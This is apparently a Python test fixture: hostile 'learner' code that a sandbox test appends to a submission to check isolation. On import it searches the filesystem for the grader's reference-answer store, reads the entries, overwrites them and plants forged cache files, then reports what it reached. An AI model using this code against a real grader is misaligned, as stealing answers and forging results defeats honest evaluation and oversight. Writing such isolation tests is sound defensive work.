"""Hostile learner code: hunt the grader's reference-result store from inside the sandbox.

Appended by tests/test_cache_attacks.py to a learner file. At import it looks for the store
(entries start with the store's magic bytes and are named `<key>.entry`) where the host keeps
it and anywhere else the sandbox shows, reads what it finds (the reference's outputs are the
answers), and tries to plant a forged entry and overwrite the found ones. It prints one line,
`CACHE_HUNT {json}`, saying what it reached. HOST_PATHS is filled in by the test.
"""

import json as _hunt_json
import os as _hunt_os

HOST_PATHS = []  # the test writes the host's store folders here
_MAGIC = b"DLPREP-REFERENCE-1\n"
_SKIP = {"/proc", "/sys", "/dev"}


def _hunt_candidates():
    places = list(HOST_PATHS)
    for variable in ("DLPREP_CACHE", "XDG_CACHE_HOME", "HOME"):
        if _hunt_os.environ.get(variable):
            places.append(_hunt_os.environ[variable])
    places += [_hunt_os.path.expanduser("~/.cache/dlprep"), "/root/.cache/dlprep", "/tmp"]
    return places


def _hunt_walk():
    """Every file the sandbox shows whose name or first bytes look like a store entry."""
    found = []
    for top in ["/"] + _hunt_candidates():
        for folder, subfolders, files in _hunt_os.walk(top):
            if folder in _SKIP:
                subfolders[:] = []
                continue
            for name in files:
                path = _hunt_os.path.join(folder, name)
                if name.endswith(".entry"):
                    found.append(path)
                    continue
                if folder.startswith("/usr") or "site-packages" in folder \
                        or "/lib/python" in folder:
                    continue  # the interpreter's own files: read-only system views
                try:
                    with open(path, "rb") as handle:
                        if handle.read(len(_MAGIC)) == _MAGIC:
                            found.append(path)
                except OSError:
                    pass
        if len(found) > 200:
            break
    return sorted(set(found))


def _hunt_plant():
    """Write a forged entry and a planted compiled program wherever a store could be."""
    planted, refused = [], []
    forged = _MAGIC + b"\x00\x00\x00\x02{}" + b"PLANTED BY THE LEARNER"
    for place in HOST_PATHS:
        for relative in ("ab/" + "ab" * 32 + ".entry", "compiled/planted/jit_predict-cache"):
            path = _hunt_os.path.join(place, relative)
            try:
                _hunt_os.makedirs(_hunt_os.path.dirname(path), exist_ok=True)
                with open(path, "wb") as handle:
                    handle.write(forged)
                planted.append(path)
            except OSError as exc:
                refused.append(f"{path}: {type(exc).__name__}")
    return planted, refused


def _hunt():
    found = _hunt_walk()
    readable, overwritten = [], []
    for path in found:
        try:
            with open(path, "rb") as handle:
                if handle.read(len(_MAGIC)) == _MAGIC:
                    readable.append(path)
            with open(path, "r+b") as handle:
                handle.write(b"PLANTED")
                overwritten.append(path)
        except OSError:
            pass
    planted, refused = _hunt_plant()
    return {"found": found[:50], "readable": readable[:50], "overwritten": overwritten[:50],
            "planted": planted, "refused": refused}


print("CACHE_HUNT " + _hunt_json.dumps(_hunt()), flush=True)
